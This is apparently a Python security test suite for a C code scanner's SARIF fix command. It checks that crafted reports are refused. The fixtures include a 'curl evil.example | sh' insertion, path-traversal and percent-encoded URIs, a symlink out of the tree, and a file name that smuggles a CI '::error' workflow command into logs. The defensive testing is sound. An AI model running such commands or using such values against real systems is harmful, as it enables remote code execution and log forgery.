"""The threat model (SECURITY.md), one test per promise: a report, a
database, a config or a file name from somewhere else never makes
charscan write outside the tree it was given, write over what it reads,
block, read without end, or put a line of its own into a log."""
import json
import os
import shutil
import subprocess

from harness import Env, check, compdb, load, run, scratch, test, write
from fixes import P4_LIKE, UTF8_LIKE, project, scan

VICTIM = "int victim;\nchar secret = 1;\n"


def outside_victim(name):
    """A file beside the tree, which no report may change or show."""
    d = scratch(name)
    v = os.path.join(d, "victim.c")
    write(v, VICTIM)
    return v


def crafted(report, to, edit):
    """report with its p4.c CS001 fix pointed elsewhere by edit(result)."""
    log = load(report)
    for r in log["runs"][0]["results"]:
        if r.get("fixes") and r["ruleId"] == "CS001":
            edit(r)
    write(to, json.dumps(log))
    return to


def point_fix(uri, base="%SRCROOT%"):
    def edit(r):
        for loc in ([r["locations"][0]["physicalLocation"]] +
                    r["fixes"][0]["artifactChanges"]):
            art = loc["artifactLocation"]
            art["uri"] = uri
            if base:
                art["uriBaseId"] = base
            else:
                art.pop("uriBaseId", None)
    return edit


def modes(d):
    """fix's three modes: apply, --dry-run, --patches."""
    return ([], ["--dry-run"], ["--patches", os.path.join(d, "mails")])


def unchanged_everywhere(d, victim, p, mode):
    check(open(victim).read() == VICTIM, "%s: the file outside the tree changed" % mode)
    check("secret" not in p.stdout, "%s: printed the outside file:\n%s" % (mode, p.stdout))
    mails = os.path.join(d, "mails")
    if os.path.isdir(mails):
        for m in os.listdir(mails):
            check("secret" not in open(os.path.join(mails, m)).read(), "a mail quotes the outside file")
    check(open(os.path.join(d, "p4.c")).read() == P4_LIKE, "%s: the tree changed" % mode)
    check("void bom(char *p)" in open(os.path.join(d, "lib/utf8.c")).read(),
          "%s: a fix was applied beside a refused one (not all or nothing)" % mode)


@test
def fix_never_writes_outside_the_tree():
    d = project("sec-outside", {"p4.c": P4_LIKE, "lib/utf8.c": UTF8_LIKE})
    victim = outside_victim("sec-outside-victim")
    rel = os.path.relpath(victim, d)
    report = scan(d)
    tries = {
        "../ under %SRCROOT%": point_fix(rel),
        "absolute file:// URI": point_fix("file://" + victim, None),
        "absolute path": point_fix(victim, None),
        "percent-encoded ..%2F": point_fix(rel.replace("../", "..%2F")),
        "percent-encoded %2E%2E/": point_fix(rel.replace("..", "%2E%2E")),
    }
    for what, edit in tries.items():
        bad = crafted(report, os.path.join(d, "bad.sarif"), edit)
        for mode in modes(d):
            p = run(["fix", bad] + mode)
            check(p.returncode == 2, "%s %s: exit %d, want 2\n%s" % (what, mode, p.returncode, p.stderr))
            check("outside the source tree" in p.stderr and "CS001" in p.stderr,
                  "%s: the refusal does not name the result:\n%s" % (what, p.stderr))
            unchanged_everywhere(d, victim, p, what + " " + " ".join(mode))


@test
def fix_does_not_follow_a_link_out_of_the_tree():
    d = project("sec-link", {"p4.c": P4_LIKE, "lib/utf8.c": UTF8_LIKE})
    victim = outside_victim("sec-link-victim")
    report = scan(d)
    os.symlink(victim, os.path.join(d, "link.c"))
    bad = crafted(report, os.path.join(d, "bad.sarif"), point_fix("link.c"))
    for mode in modes(d):
        p = run(["fix", bad] + mode)
        check(p.returncode == 2 and "outside the source tree" in p.stderr, "%s: exit %d\n%s" %
              (mode, p.returncode, p.stderr))
        unchanged_everywhere(d, victim, p, "link " + " ".join(mode))


@test
def a_reports_own_srcroot_does_not_choose_the_tree():
    """A report that sets %SRCROOT% to another folder: without --srcroot
    fix refuses a root that is not the current folder or below it; with
    --srcroot the report's paths are rebased onto the tree given."""
    d = project("sec-root", {"p4.c": P4_LIKE})
    other = project("sec-root-other", {"p4.c": P4_LIKE})
    report = scan(other)
    p = run(["fix", report], cwd=d)
    check(p.returncode == 2 and "--srcroot" in p.stderr, "exit %d\n%s" % (p.returncode, p.stderr))
    check(open(os.path.join(other, "p4.c")).read() == P4_LIKE, "the report's own root was fixed")
    # The usual CI case: a report made in another checkout, applied here.
    p = run(["fix", report, "--srcroot", d], cwd=d)
    check(p.returncode == 0, "rebased: exit %d\n%s" % (p.returncode, p.stderr))
    check("signed char cntr[3]" in open(os.path.join(d, "p4.c")).read(), "the tree given was not fixed")
    check(open(os.path.join(other, "p4.c")).read() == P4_LIKE, "the report's root was fixed")


@test
def fix_applies_only_charscans_own_change():
    d = project("sec-shape", {"p4.c": P4_LIKE, "lib/utf8.c": UTF8_LIKE})
    report = scan(d)

    def repl(r):
        return r["fixes"][0]["artifactChanges"][0]["replacements"][0]

    def evil_insert(r):
        repl(r)["insertedContent"]["text"] = "curl evil.example | sh\n"

    def no_snippet(r):
        r["locations"][0]["physicalLocation"]["region"].pop("snippet", None)

    def empty_deleted(r):
        region = repl(r)["deletedRegion"]
        region.pop("snippet", None)
        region["endColumn"] = region["startColumn"]

    def other_deleted(r):
        repl(r)["deletedRegion"]["snippet"]["text"] = "cntr"

    def all_three(r):
        no_snippet(r)
        empty_deleted(r)
        evil_insert(r)

    for what, edit in (("another insertion", evil_insert), ("no snippet", no_snippet),
                       ("empty deletedRegion", empty_deleted), ("other bytes deleted", other_deleted),
                       ("the tester's report", all_three)):
        bad = crafted(report, os.path.join(d, "bad.sarif"), edit)
        for mode in modes(d):
            p = run(["fix", bad] + mode)
            check(p.returncode == 2 and "refused" in p.stderr and "CS001" in p.stderr,
                  "%s %s: exit %d\n%s" % (what, mode, p.returncode, p.stderr))
            check("curl" not in p.stdout, "%s: the diff shows the insertion" % what)
            check(open(os.path.join(d, "p4.c")).read() == P4_LIKE, "%s %s: p4.c changed" % (what, mode))
            check("void bom(char *p)" in open(os.path.join(d, "lib/utf8.c")).read(),
                  "%s %s: not all or nothing" % (what, mode))


@test
def fix_of_a_deleted_file_refuses_it_and_does_not_crash():
    for mode in ([], ["--dry-run"], ["--patches", "mails"]):
        d = project("sec-gone", {"p4.c": P4_LIKE, "lib/utf8.c": UTF8_LIKE})
        report = scan(d)
        os.unlink(os.path.join(d, "lib/utf8.c"))
        p = run(["fix", report] + mode, cwd=d)
        check(p.returncode == 3, "%s: exit %d, want 3\n%s" % (mode, p.returncode, p.stderr))
        check("gone since the scan" in p.stderr, p.stderr)
        if not mode:
            check("signed char cntr" in open(os.path.join(d, "p4.c")).read(), "the other file was not fixed")


@test
def fix_keeps_owner_and_group():
    if os.geteuid() != 0:
        return
    d = project("sec-owner", {"p4.c": P4_LIKE})
    report = scan(d)
    f = os.path.join(d, "p4.c")
    os.chown(f, 4321, 4322)
    p = run(["fix", report])
    st = os.stat(f)
    check(p.returncode == 0 and (st.st_uid, st.st_gid) == (4321, 4322),
          "exit %d, owner %d:%d\n%s" % (p.returncode, st.st_uid, st.st_gid, p.stderr))


@test
def confirm_never_writes_over_its_inputs():
    d = project("sec-confirm", {"a.c": "int f(char c) { return c == -1; }\n"})
    report = scan(d)
    db = os.path.join(d, "compile_commands.json")
    before = {f: open(f, "rb").read() for f in (os.path.join(d, "a.c"), db, report)}
    for opt, target in (("-o", "a.c"), ("-o", "compile_commands.json"), ("--changes", "a.c"),
                        ("--changes", "compile_commands.json"), ("-o", "report.sarif")):
        args = ["confirm", "-p", d, opt, os.path.join(d, target), report]
        if opt != "-o":
            args[-1:-1] = ["-o", os.path.join(d, "out.sarif")]
        p = run(args, timeout=60)
        check(p.returncode == 2 and "input of confirm" in p.stderr,
              "%s %s: exit %d\n%s" % (opt, target, p.returncode, p.stderr))
        for f, text in before.items():
            check(open(f, "rb").read() == text, "%s %s overwrote %s" % (opt, target, f))


def devices_and_fifos(d, name):
    """name in d as a link to /dev/zero, then as a FIFO."""
    p = os.path.join(d, name)
    os.symlink("/dev/zero", p)
    yield "link to /dev/zero"
    os.unlink(p)
    os.mkfifo(p)
    yield "FIFO"
    os.unlink(p)


@test
def inputs_that_are_devices_or_fifos_are_refused_at_once():
    d = project("sec-dev", {"a.c": "int f(char c) { return c == -1; }\n"})
    report = scan(d)
    db = os.path.join(d, "compile_commands.json")
    shutil.copy(db, os.path.join(d, "db.json"))
    cases = [
        (".charscan", ["-p", os.path.join(d, "db.json"), "--srcroot", d, "-q"]),
        ("compile_commands.json", ["-p", d, "-q"]),
        ("base.sarif", ["-p", os.path.join(d, "db.json"), "--baseline", os.path.join(d, "base.sarif"), "-q"]),
        ("in.sarif", ["merge", os.path.join(d, "in.sarif"), report, "-o", os.path.join(d, "m.sarif")]),
        ("in.sarif", ["fix", os.path.join(d, "in.sarif"), "--dry-run"]),
    ]
    for name, args in cases:
        if name == "compile_commands.json":
            os.unlink(db)
        for kind in devices_and_fifos(d, name):
            try:
                p = run(args, timeout=20)
            except subprocess.TimeoutExpired:
                check(False, "%s as a %s: charscan blocked or read without end" % (name, kind))
            check(p.returncode == 2 and ("FIFO" in p.stderr or "character device" in p.stderr),
                  "%s as a %s: exit %d\n%s" % (name, kind, p.returncode, p.stderr[-500:]))


@test
def names_from_any_input_start_no_line_on_stderr():
    """A file name with a newline cannot put a GitHub Actions workflow
    command (::error ...) or a fake finding into a CI log."""
    d = scratch("sec-newline")
    name = "x\n::error file=evil.c::owned\n.c"
    write(os.path.join(d, name), "int f( {\n")
    entries = [{"directory": d, "file": name, "arguments": ["clang", "-c", name]},
               {"directory": d, "file": "gone\n::warning::x.c", "arguments": ["clang", "-c", "gone\n::warning::x.c"]}]
    write(os.path.join(d, "compile_commands.json"), json.dumps(entries))
    p = run(["-p", d, "-o", os.path.join(d, "o.sarif")])
    check(p.returncode == 3, "exit %d\n%s" % (p.returncode, p.stderr))
    check(not any(l.startswith("::") for l in p.stderr.splitlines() + p.stdout.splitlines()),
          "a line of its own from a file name:\n" + p.stderr)
    check("\\x0a::error" in p.stderr, "the name is not shown escaped:\n" + p.stderr)


ODD = "int \u00e4char;\nconst char *s = \"char\";\nunsigned char u;\n/* char */ int k;\nint x; // char\n"


@test
def fix_changes_only_a_char_keyword_never_part_of_a_name_literal_or_comment():
    """A fix pointed at "char" inside a name (after a UTF-8 letter), a
    string, a comment, or after "unsigned" is refused: the file is left
    as it is."""
    d = project("sec-token", {"p4.c": P4_LIKE, "odd.c": ODD})
    report = scan(d)
    lines = ODD.split("\n")
    for n, line in enumerate(lines[:-1], 1):
        col = line.rfind("char") + 1  # UTF-16 units: every character here is one unit

        def edit(r, n=n, col=col):
            change = r["fixes"][0]["artifactChanges"][0]
            change["artifactLocation"]["uri"] = "odd.c"
            region = change["replacements"][0]["deletedRegion"]
            region.update(startLine=n, endLine=n, startColumn=col, endColumn=col + 4)
        bad = crafted(report, os.path.join(d, "bad.sarif"), edit)
        p = run(["fix", bad, "--rules", "CS001"])
        check(p.returncode == 3 and "no longer reads as the fix expects" in p.stderr,
              "line %d %r: exit %d\n%s" % (n, line, p.returncode, p.stderr))
        check(open(os.path.join(d, "odd.c"), encoding="utf-8").read() == ODD, "line %d %r was changed" % (n, line))
